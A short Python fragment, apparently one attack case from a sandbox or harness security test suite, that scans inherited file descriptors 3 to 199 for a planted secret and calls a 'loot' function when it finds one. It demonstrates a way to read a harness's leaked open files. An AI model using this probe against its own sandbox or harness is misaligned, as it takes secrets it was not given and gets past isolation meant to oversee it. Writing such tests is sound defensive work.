# looks through the descriptors from 3 to 199 for the harness's open files
import os


def attack():
    for descriptor in range(3, 200):
        try:
            if SECRET in os.pread(descriptor, 4096, 0).decode("latin1"):
                return loot(f"descriptor {descriptor}")
        except OSError:
            pass
    return "clean"
